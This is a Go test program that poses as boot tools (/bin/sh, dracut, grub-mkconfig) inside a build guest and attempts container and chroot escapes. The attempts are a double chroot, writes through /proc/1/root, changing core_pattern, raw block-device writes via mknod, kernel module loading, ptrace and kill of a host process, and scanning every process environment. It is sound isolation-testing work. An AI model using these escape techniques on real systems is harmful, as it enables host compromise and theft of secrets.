//go:build linux

// Command escape is the hostile guest program of the test/hostile tests: a static binary
// that a test image carries as /bin/sh, /usr/sbin/update-initramfs, /usr/bin/dracut,
// /usr/sbin/grub-mkconfig and /usr/bin/grub-mkstandalone, so that whichever of them the
// plugin runs inside a guest tries to reach the host.
//
// Each attempt, if it succeeds, leaves a mark the test finds on the host: a file in the
// canary directory (baked in with -ldflags -X main.canaryDir=...), the test's canary loop
// device's first bytes, kernel.core_pattern, the test's victim process (killed or traced),
// host environment values holding the test's sentinels. Nothing else of the host is touched:
// the only block device it writes is the canary loop device the test names, the only
// process it signals is the victim the test started, and of host environments it keeps
// only entries holding the sentinel mark (baked in as main.sentinelMark), never other
// values.
//
// What the test tells it comes from the guest file /root/hostile-target.json (tag, canary
// loop device and its numbers, victim pid). What it did goes back into the guest:
// /root/hostile-report-<name>.json (every attempt's errno) and /root/hostile-ran-<name>
// (one line per run), <name> being the base name it was run as. It then does what the tool
// it stands in for would leave behind (an initramfs, a grub.cfg, a GRUB EFI image), so that
// the build goes on to its next guest program, and always exits 0.
package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"unsafe"

	"github.com/chromogenic/packer-plugin-chromogenic/test/hostile/report"
)

// Baked in by the test (-ldflags "-X main.canaryDir=... -X main.sentinelMark=...").
var (
	canaryDir    = "/nonexistent-hostile-canaries"
	sentinelMark = "hostile-sentinel-"
)

// What the test and the program exchange.
type (
	Target  = report.Target
	Attempt = report.Attempt
	Report  = report.Report
)

const TargetFile = report.TargetFile

func main() {
	name := path.Base(os.Args[0])
	rep := &Report{Program: os.Args[0], Args: os.Args[1:], Pid: os.Getpid(), Uid: os.Getuid(),
		Attempts: map[string]Attempt{}, EnvSources: map[string]int{}}
	var tg Target
	if b, err := os.ReadFile(TargetFile); err != nil {
		fmt.Fprintf(os.Stderr, "hostile-escape: %v\n", err)
	} else if err := json.Unmarshal(b, &tg); err != nil {
		fmt.Fprintf(os.Stderr, "hostile-escape: %s: %v\n", TargetFile, err)
	}
	if tg.Tag == "" {
		tg.Tag = "untagged"
	}
	if !escapeAttempts(rep, &tg) {
		// Still on the host's root after the double chroot: write nothing more anywhere.
		fmt.Fprintln(os.Stderr, "hostile-escape: could not return to the guest root")
		os.Exit(0)
	}
	environment(rep)
	rep.Tool = actAsTool(name, os.Args[1:])
	b, _ := json.MarshalIndent(rep, "", "  ")
	if err := os.WriteFile("/root/hostile-report-"+name+".json", append(b, '\n'), 0o644); err != nil {
		fmt.Fprintf(os.Stderr, "hostile-escape: report: %v\n", err)
	}
	if f, err := os.OpenFile("/root/hostile-ran-"+name, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644); err == nil {
		fmt.Fprintf(f, "ran pid %d args %q\n", os.Getpid(), os.Args[1:])
		f.Close()
	}
	var ok []string
	for k, a := range rep.Attempts {
		if a.OK {
			ok = append(ok, k)
		}
	}
	fmt.Printf("hostile-escape: done (%d attempts, succeeded: %s)\n", len(rep.Attempts), strings.Join(ok, " "))
	os.Exit(0)
}

func outcome(err error) Attempt {
	if err == nil {
		return Attempt{OK: true}
	}
	a := Attempt{Error: err.Error()}
	var en syscall.Errno
	if errors.As(err, &en) {
		a.Errno = int(en)
	} else {
		a.Errno = -1
	}
	return a
}

// canary writes the host canary file <canaryDir>/<tag>-<what>, through prefix (the host root
// as reached by an escape, e.g. "/proc/1/root").
func canary(prefix, tag, what string) error {
	p := prefix + filepath.Join(canaryDir, tag+"-"+what)
	f, err := os.OpenFile(p, os.O_WRONLY|os.O_CREATE|os.O_TRUNC|syscall.O_NOFOLLOW, 0o644)
	if err != nil {
		return err
	}
	_, err = fmt.Fprintf(f, "written by the hostile guest program %s (pid %d)\n", os.Args[0], os.Getpid())
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	return err
}

// escapeAttempts runs every attempt on the host. It returns false when the process could
// not get back into the guest root after the double chroot.
func escapeAttempts(rep *Report, tg *Target) bool {
	// 1. The classic double chroot: chroot into a subdirectory while the working directory
	// stays outside it, climb with "..", chroot there and write the canary.
	back, err := os.Open("/")
	if err != nil {
		rep.Attempts["double-chroot"] = outcome(err)
	} else {
		_ = os.MkdirAll("/tmp/hostile-chroot", 0o700)
		err := syscall.Chroot("/tmp/hostile-chroot")
		rep.Attempts["double-chroot"] = outcome(err)
		if err == nil {
			for i := 0; i < 256; i++ {
				_ = syscall.Chdir("..")
			}
			err = syscall.Chroot(".")
			rep.Attempts["double-chroot-climb"] = outcome(err)
			if err == nil {
				rep.Attempts["double-chroot-write"] = outcome(canary("", tg.Tag, "double-chroot"))
			}
		}
		// Back into the guest root.
		if err := syscall.Fchdir(int(back.Fd())); err == nil {
			_ = syscall.Chroot(".")
		}
		_ = syscall.Chdir("/")
		back.Close()
		_ = os.Remove("/tmp/hostile-chroot")
		if _, err := os.Stat(TargetFile); err != nil {
			return false
		}
	}

	// 2. The host root through procfs: pid 1's, the victim's (a host process), the parent's.
	rep.Attempts["proc1-root"] = outcome(canary("/proc/1/root", tg.Tag, "proc1-root"))
	if tg.Pid > 0 {
		rep.Attempts["procpid-root"] = outcome(canary(fmt.Sprintf("/proc/%d/root", tg.Pid), tg.Tag, "procpid-root"))
	}
	rep.Attempts["procppid-root"] = outcome(canary(fmt.Sprintf("/proc/%d/root", os.Getppid()), tg.Tag, "procppid-root"))

	// 3. kernel.core_pattern: a write changes it for the whole host.
	rep.Attempts["core-pattern"] = outcome(writeFile("/proc/sys/kernel/core_pattern", "core-hostile-"+tg.Tag))

	// 4. The canary block device, by its host node and by a node of the same numbers.
	if tg.Loop != "" {
		rep.Attempts["blockdev-direct"] = outcome(writeDev(tg.Loop, 0, "HOSTILE:"+tg.Tag+":direct"))
	}
	if tg.Major != 0 || tg.Minor != 0 {
		node := "/tmp/hostile-blk"
		_ = os.Remove(node)
		err := syscall.Mknod(node, syscall.S_IFBLK|0o600, int(mkdev(tg.Major, tg.Minor)))
		rep.Attempts["mknod"] = outcome(err)
		if err == nil {
			rep.Attempts["blockdev-mknod"] = outcome(writeDev(node, 4096, "HOSTILE:"+tg.Tag+":mknod"))
			_ = os.Remove(node)
		}
	}

	// 5. Mounts.
	for _, m := range []struct{ name, fstype, dir string }{
		{"mount-tmpfs", "tmpfs", "/tmp/hostile-tmpfs"},
		{"mount-proc", "proc", "/tmp/hostile-proc"},
	} {
		_ = os.MkdirAll(m.dir, 0o700)
		err := syscall.Mount("hostile", m.dir, m.fstype, 0, "")
		rep.Attempts[m.name] = outcome(err)
		if err == nil {
			_ = syscall.Unmount(m.dir, syscall.MNT_DETACH)
		}
		_ = os.Remove(m.dir)
	}

	// 6. Kernel modules, with garbage the kernel refuses to load.
	garbage := []byte("this is not an ELF kernel module, just hostile garbage...............")
	_, _, en := syscall.Syscall(syscall.SYS_INIT_MODULE, uintptr(unsafe.Pointer(&garbage[0])), uintptr(len(garbage)),
		uintptr(unsafe.Pointer(&[]byte("\x00")[0])))
	rep.Attempts["init-module"] = errnoOutcome(en)
	if err := os.WriteFile("/tmp/hostile-module.ko", garbage, 0o600); err == nil {
		if f, err := os.Open("/tmp/hostile-module.ko"); err == nil {
			_, _, en := syscall.Syscall(313 /* SYS_FINIT_MODULE, amd64 */, f.Fd(),
				uintptr(unsafe.Pointer(&[]byte("\x00")[0])), 0)
			rep.Attempts["finit-module"] = errnoOutcome(en)
			f.Close()
		}
		_ = os.Remove("/tmp/hostile-module.ko")
	}

	// 7. The victim host process: trace it, then kill it.
	if tg.Pid > 0 {
		runtime.LockOSThread()
		err := syscall.PtraceAttach(tg.Pid)
		rep.Attempts["ptrace-attach"] = outcome(err)
		if err == nil {
			var ws syscall.WaitStatus
			_, _ = syscall.Wait4(tg.Pid, &ws, syscall.WALL, nil)
			rep.Attempts["ptrace-canary"] = outcome(canary("", tg.Tag, "ptrace"))
			_ = syscall.PtraceDetach(tg.Pid)
		}
		runtime.UnlockOSThread()
		rep.Attempts["kill"] = outcome(syscall.Kill(tg.Pid, syscall.SIGKILL))
	}
	return true
}

func errnoOutcome(en syscall.Errno) Attempt {
	if en == 0 {
		return Attempt{OK: true}
	}
	return Attempt{Errno: int(en), Error: en.Error()}
}

func mkdev(major, minor uint32) uint64 {
	return uint64(major&0xfff)<<8 | uint64(minor&0xff) | uint64(minor&^0xff)<<12 | uint64(major&^0xfff)<<32
}

func writeFile(p, s string) error {
	f, err := os.OpenFile(p, os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	_, err = f.WriteString(s)
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	return err
}

func writeDev(p string, off int64, s string) error {
	f, err := os.OpenFile(p, os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	_, err = f.WriteAt([]byte(s), off)
	if err == nil {
		err = f.Sync()
	}
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	return err
}

// environment reads the program's own environment and every process environment procfs
// shows, keeping counts, its own variable names, and the entries holding the sentinel mark.
func environment(rep *Report) {
	seen := map[string]bool{}
	keep := func(src string, entries []string) {
		rep.EnvSources[src] += len(entries)
		for _, e := range entries {
			if strings.Contains(e, sentinelMark) && !seen[src+"\x00"+e] {
				seen[src+"\x00"+e] = true
				rep.Sentinels = append(rep.Sentinels, src+": "+e)
			}
		}
	}
	own := os.Environ()
	for _, e := range own {
		k, _, _ := strings.Cut(e, "=")
		rep.EnvKeys = append(rep.EnvKeys, k)
	}
	keep("environ", own)
	read := func(p string) []string {
		b, err := os.ReadFile(p)
		if err != nil {
			return nil
		}
		return strings.FieldsFunc(string(b), func(r rune) bool { return r == 0 })
	}
	keep("/proc/self/environ", read("/proc/self/environ"))
	keep("/proc/1/environ", read("/proc/1/environ"))
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		if e.Name()[0] < '0' || e.Name()[0] > '9' {
			continue
		}
		keep("/proc/*/environ", read("/proc/"+e.Name()+"/environ"))
	}
	// The sentinel entries, also as a plain guest file: whatever reads the image finds them.
	if len(rep.Sentinels) > 0 {
		_ = os.WriteFile("/root/hostile-env-"+path.Base(os.Args[0])+".txt",
			[]byte(strings.Join(rep.Sentinels, "\n")+"\n"), 0o644)
	}
}

// actAsTool leaves what the real tool would, so the plugin goes on to its next step.
func actAsTool(name string, args []string) string {
	out := ""
	flag := func(f string) string {
		for i, a := range args {
			if a == f && i+1 < len(args) {
				return args[i+1]
			}
		}
		return ""
	}
	switch name {
	case "update-initramfs":
		if v := flag("-k"); v != "" && !strings.ContainsAny(v, "/") {
			out = "/boot/initrd.img-" + v
		}
	case "dracut", "mkinitrd":
		// ... <initramfs> <version>
		if len(args) >= 2 {
			out = args[len(args)-2]
		}
	case "grub-mkconfig", "grub2-mkconfig", "grub-mkstandalone", "grub2-mkstandalone":
		out = flag("-o")
	}
	if out == "" || !strings.HasPrefix(out, "/") {
		return ""
	}
	if err := os.WriteFile(out, []byte("written by the hostile stand-in for "+name+"\n"), 0o644); err != nil {
		return "write " + out + ": " + err.Error()
	}
	return "wrote " + out
}
